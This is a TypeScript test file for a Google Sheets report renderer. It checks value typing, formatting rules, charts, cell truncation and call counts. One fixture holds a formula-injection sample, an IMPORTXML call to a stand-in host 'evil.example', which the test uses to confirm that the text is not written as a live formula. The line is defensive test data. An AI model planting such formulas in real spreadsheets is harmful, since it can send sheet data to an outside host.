/**
 * The Sheets renderer against the in-memory spreadsheet: values land as typed values (text stays
 * text, dates as serial days, formulas as formulas), formats and rules as the model says, and the
 * number of service calls depends on the report's shape, not on the size of its grid.
 */
import { describe, expect, it } from "vitest";
import { renderSheet, sheetValue } from "../../src/addon/render";
import { sheetContext } from "../../src/core/cells";
import { reportFromTable } from "../../src/core/report/build";
import { FORMATS, type ReportSheet } from "../../src/core/report/model";
import { generateSample, purchaseTable, spendTable } from "../../src/core/sample/generate";
import { totalCalls } from "../helpers/fake";
import { FakeSpreadsheet } from "../helpers/sheets";

function withApp<T>(book: FakeSpreadsheet, fn: () => T): T {
  const g = globalThis as Record<string, unknown>;
  g.SpreadsheetApp = book.app();
  try {
    return fn();
  } finally {
    delete g.SpreadsheetApp;
  }
}

function sampleSheet(cohorts: number, periods: number): ReportSheet {
  const header = [
    "Cohort",
    "Segment",
    "Customers",
    ...Array.from({ length: periods }, (_, k) => `Period ${k}`),
  ];
  const rows = Array.from({ length: cohorts }, (_, i) => [
    new Date(Date.UTC(2024, i, 1)),
    i === 0 ? '=IMPORTXML("http://evil.example/?q=1","//a")' : "00004",
    100 + i,
    ...Array.from({ length: periods }, (_, k) => (k === 0 ? 1 : 1 / (k + 1))),
  ]);
  return {
    key: "retention",
    name: "Retention",
    cells: [header, ...rows, ["Spend", null, { formula: "SUM(C2:C3)", value: 201 }, Number.NaN]],
    styles: [
      { range: { row: 1, column: 1, rows: 1, columns: header.length }, bold: true, background: "#eeeeee" },
      { range: { row: 2, column: 4, rows: cohorts, columns: periods }, numberFormat: FORMATS.percent },
    ],
    conditionalFormats: [
      {
        kind: "colorScale",
        range: { row: 2, column: 4, rows: cohorts, columns: periods },
        minColor: "#ffffff",
        midColor: "#ffeb84",
        maxColor: "#63be7b",
      },
      {
        kind: "threshold",
        range: { row: 2, column: 3, rows: cohorts, columns: 1 },
        threshold: 3,
        belowColor: "#f4c7c3",
        atOrAboveColor: "#b7e1cd",
      },
    ],
    charts: [
      {
        type: "line",
        title: "Retention",
        data: { row: 1, column: 3, rows: cohorts + 1, columns: periods + 1 },
        seriesIn: "rows",
        anchor: { row: cohorts + 4, column: 1 },
      },
    ],
    frozenRows: 1,
    frozenColumns: 1,
    columnWidths: { 1: 110, 2: 90, 3: 90 },
    notes: [{ row: 2, column: 4, text: "partial period" }],
  };
}

describe("renderSheet", () => {
  it("cuts text and notes to Sheets' 50,000 characters a cell", () => {
    const book = new FakeSpreadsheet();
    const sheet = book.addSheet("Report");
    const model: ReportSheet = {
      ...sampleSheet(1, 1),
      cells: [["x".repeat(60_000), "short"]],
      notes: [{ row: 1, column: 2, text: "n".repeat(60_000) }],
    };
    withApp(book, () => renderSheet(book.sheetFake(sheet), model));
    expect(sheet.value(1, 1)).toBe(`${"x".repeat(49_998)}…`);
    expect(sheet.value(1, 2)).toBe("short");
    expect(String(sheet.prop("note").get(1, 2))).toHaveLength(50_000);
  });

  it("hides only the columns it is told to, showing any an earlier build hid", () => {
    const book = new FakeSpreadsheet();
    const sheet = book.addSheet("Report");
    withApp(book, () => renderSheet(book.sheetFake(sheet), sampleSheet(2, 3), { hiddenColumns: [7] }));
    expect([...sheet.hiddenColumns]).toEqual([7]);
    withApp(book, () => renderSheet(book.sheetFake(sheet), sampleSheet(2, 3)));
    expect([...sheet.hiddenColumns]).toEqual([]);
  });

  it("writes values as typed values: text stays text, dates as serial days, formulas as formulas", () => {
    const book = new FakeSpreadsheet();
    const sheet = book.addSheet("Retention");
    withApp(book, () => renderSheet(book.sheetFake(sheet), sampleSheet(3, 4)));
    expect(sheet.value(1, 1)).toBe("Cohort");
    expect(sheet.value(2, 1)).toBe(45292); // 2024-01-01
    expect(sheet.format(2, 1)).toBe(FORMATS.date);
    expect(sheet.value(2, 2)).toBe('=IMPORTXML("http://evil.example/?q=1","//a")');
    expect(sheet.formula(2, 2)).toBe("");
    expect(sheet.value(3, 2)).toBe("00004");
    expect(sheet.formula(5, 3)).toBe("=SUM(C2:C3)");
    expect(sheet.value(5, 4)).toBe("");
    expect(sheet.format(2, 4)).toBe(FORMATS.percent);
    expect(sheet.prop("fontWeight").get(1, 2)).toBe("bold");
    expect(sheet.prop("note").get(2, 4)).toBe("partial period");
    expect(sheet.frozenRows).toBe(1);
    expect(sheet.frozenColumns).toBe(1);
    expect(sheet.columnWidths.get(2)).toBe(90);
    expect(sheet.rules.map((r) => r.ranges[0])).toEqual(["D2:G4", "C2:C4", "C2:C4"]);
    expect(sheet.rules[0].gradient?.mid).toEqual({ color: "#ffeb84", type: "PERCENTILE", value: "50" });
    expect(sheet.rules[1]).toMatchObject({
      condition: { kind: "lessThan", value: 3 },
      background: "#f4c7c3",
    });
    expect(sheet.charts).toEqual([
      expect.objectContaining({ type: "line", ranges: ["C1:G4"], transpose: true, numHeaders: 1 }),
    ]);
  });

  it("draws stacked movements with the MRR line on a second axis as a combo chart", () => {
    const book = new FakeSpreadsheet();
    const sheet = book.addSheet("Subscription (MRR)");
    const model = sampleSheet(3, 4);
    // Columns 1–5 of the data: month, then four series; the last is the MRR line.
    model.charts = [
      {
        type: "column",
        title: "MRR movements",
        data: { row: 1, column: 1, rows: 4, columns: 5 },
        seriesIn: "columns",
        anchor: { row: 8, column: 1 },
        stacked: true,
        lineSeries: 1,
      },
    ];
    withApp(book, () => renderSheet(book.sheetFake(sheet), model));
    expect(sheet.charts).toEqual([
      expect.objectContaining({
        type: "combo",
        options: expect.objectContaining({
          isStacked: true,
          seriesType: "bars",
          series: { 3: { type: "line", targetAxisIndex: 1 } },
        }),
      }),
    ]);
  });

  it("never hands setValues NaN, Infinity or undefined", () => {
    expect(sheetValue(Number.NaN)).toBe("");
    expect(sheetValue(Number.POSITIVE_INFINITY)).toBe("");
    expect(sheetValue(null)).toBe("");
    expect(sheetValue(new Date(Number.NaN))).toBe("");
    expect(sheetValue("'quoted")).toBe("''quoted");
  });

  it("grows the sheet for wide matrices and replaces a previous build completely", () => {
    const book = new FakeSpreadsheet();
    const sheet = book.addSheet("Retention");
    withApp(book, () => {
      renderSheet(book.sheetFake(sheet), sampleSheet(3, 60));
      renderSheet(book.sheetFake(sheet), sampleSheet(2, 2));
    });
    expect(sheet.maxColumns).toBeGreaterThanOrEqual(63);
    expect(sheet.value(4, 1)).toBe("Spend");
    expect(sheet.value(3, 40)).toBe("");
    expect(sheet.charts).toHaveLength(1);
    expect(sheet.rules).toHaveLength(3);
  });

  it("makes as many service calls for a 5,000-row grid as for a 5-row one", () => {
    const count = (cohorts: number) => {
      const book = new FakeSpreadsheet();
      const sheet = book.addSheet("Retention");
      sheet.maxRows = 10_000;
      withApp(book, () => renderSheet(book.sheetFake(sheet), sampleSheet(cohorts, 12)));
      return totalCalls(book.calls);
    };
    expect(count(5_000)).toBe(count(5));
  });

  it("renders the Payback sheet in as many calls for 3,000 customers as for 300", () => {
    const count = (customers: number) => {
      const sample = generateSample({ customers });
      const { report } = reportFromTable({
        rows: purchaseTable(sample),
        spend: spendTable(sample),
        context: sheetContext(),
        options: { sheets: ["payback"], splitBySegment: true },
      });
      const model = report.sheets.find((s) => s.key === "payback") as ReportSheet;
      const book = new FakeSpreadsheet();
      const sheet = book.addSheet("Payback");
      withApp(book, () =>
        renderSheet(book.sheetFake(sheet), model, { nameOf: (key) => (key === "ltv-cac" ? "LTV-CAC" : key) }),
      );
      expect(sheet.formula(4, 4)).toMatch(/^='LTV-CAC'!\$/);
      expect(sheet.charts).toHaveLength(1);
      return totalCalls(book.calls);
    };
    expect(count(3_000)).toBe(count(300));
  });
});
